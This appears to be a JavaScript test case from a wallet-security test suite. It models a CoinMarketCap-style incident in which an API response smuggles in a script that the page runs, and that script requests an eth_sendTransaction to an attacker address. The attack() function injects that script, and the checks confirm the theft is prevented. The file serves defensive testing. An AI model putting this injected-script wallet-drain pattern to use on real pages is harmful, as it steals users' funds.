// B10: the answer that names an image brings a script along, which the page runs as soon as it shows the image.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B10',
  title: 'script inside an answer of the API',
  source: 'CoinMarketCap, 20 June 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: {
    routes: {
      '/api/doodle': (a) => ({
        type: 'application/json',
        text: JSON.stringify({
          image: '/doodle.png',
          code: `window.doodleDone = ethereum.request({ method: 'eth_sendTransaction',
            params: [{ from: '${a.USER}', to: '${a.EVIL}', value: '0x5' }] }).catch((error) => error.code);`,
        }),
      }),
    },
  },

  async attack() {
    const { code } = await (await fetch('/api/doodle')).json();
    document.documentElement.append(Object.assign(document.createElement('script'), { text: code }));
    return window.doodleDone;
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },
  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', account: a.EVIL }),
};
